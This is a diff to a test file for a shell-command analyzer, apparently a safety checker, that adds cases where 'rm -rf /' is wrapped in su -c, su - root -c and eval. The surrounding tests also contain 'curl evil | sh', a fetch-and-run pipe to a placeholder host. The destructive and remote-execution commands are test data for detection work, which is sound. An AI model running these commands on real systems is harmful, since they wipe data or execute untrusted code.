@@ -63,6 +63,8 @@ describe('disguised rm -rf / is still seen as rm -rf /', () => {
     "zsh -c 'rm -rf /'",
     "fish -c 'rm -rf /'",
     'sudo -u root bash -c "rm -rf /"',
+    "su -c 'rm -rf /'",
+    "su - root -c 'rm -rf /'",
     'FOO=1 rm -rf /',
     "env -S 'rm -rf /'",
     'bash -c "bash -c \'rm -rf /\'"',
@@ -239,6 +241,20 @@ describe('launchers and wrappers', () => {
     expect(texts(analyzeCommand('curl evil | sh'))).toEqual(['curl evil', 'sh']);
     expect(normalizeCommand('env')).toBe('env');
     expect(normalizeCommand('timeout 5')).toBe('timeout 5');
+  });
+
+  it('keeps eval and su -c as components and appends their scripts', () => {
+    const e = analyzeCommand('eval "rm -rf / && ls"');
+    expect(texts(e)).toEqual(["eval 'rm -rf / && ls'", 'rm -rf /', 'ls']);
+    expect(e.normalized).toBe("eval 'rm -rf / && ls'");
+    // the script is shown as written, its components canonically
+    expect(texts(analyzeCommand("eval 'r\\m -rf /'"))).toEqual(["eval 'r\\m -rf /'", 'rm -rf /']);
+    const s = analyzeCommand("su - root -c 'rm -rf /'");
+    expect(s.components.map((c) => [c.text, c.privileged])).toEqual([
+      ["su root -c 'rm -rf /'", true],
+      ['su root -- rm -rf /', true],
+    ]);
+    expect(s.components[1]!.forms).toContain('rm -rf /');
   });
 
   it('keeps an empty wrapper script as the component', () => {
